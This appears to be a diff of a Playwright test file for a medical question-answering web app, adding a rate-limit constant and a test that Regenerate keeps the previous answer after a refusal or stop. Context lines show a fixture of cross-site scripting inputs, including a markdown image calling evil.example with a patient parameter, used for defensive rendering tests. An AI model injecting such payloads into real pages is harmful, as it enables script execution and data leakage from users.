@@ -25,6 +25,7 @@ SECTIONS = {
 }
 CARDS = ("The right atrium is full.", json.dumps(SECTIONS))
 ANAPHYLAXIS = "He ate a peanut, has hives all over, swollen lips and wheezing. Blood pressure 84/46 mmHg."
+BUSY = {"message": "full", "type": "rate_limit_error", "param": None, "code": "server_busy"}
 HOSTILE = (
     "<img src=http://evil.example/x onerror=\"document.title='owned'\"> <script>document.title='owned'</script>\n\n"
     "![x](http://evil.example/y?q=patient) [click](javascript:document.title='owned') <b>bold</b>\n\n"
@@ -200,6 +201,29 @@ def test_regenerate_draws_another_answer_in_place_of_the_last(serving: Serving, 
     first, second = speaker.options
     assert (first.temperature, second.temperature) == (0, 0.7)
     assert first.seed != second.seed
+
+
+@pytest.mark.parametrize("then", ["refused", "stopped"])
+def test_regenerate_keeps_the_old_answer_until_there_is_another(serving: Serving, page: Page, then: str) -> None:
+    speaker = EndlessSpeaker(thinking=True)
+    first = ScriptedBackend([("", "first")])
+    with serving(first) as url:
+        page.goto(url)
+        ask(page, "What raises the JVP?")
+        expect(article(page)).to_have_attribute("aria-busy", "false")
+        if then == "refused":
+            page.route("**/v1/answer", lambda route: route.fulfill(status=429, json={"error": BUSY}))
+            page.get_by_role("button", name="Regenerate").click()
+            expect(page.locator("#failure")).to_contain_text("busy")
+        else:
+            first.stream = speaker.stream  # type: ignore[method-assign]
+            page.get_by_role("button", name="Regenerate").click()
+            assert speaker.started.acquire(timeout=PATIENCE_S)
+            page.get_by_role("button", name="Stop").click()
+        expect(article(page)).to_contain_text("first")
+        expect(page.get_by_role("article")).to_have_count(1)
+        expect(page.get_by_label("Your question")).to_have_value("")
+        expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
 
 
 def test_a_copied_answer_carries_model_and_disclaimer(serving: Serving, page: Page) -> None:
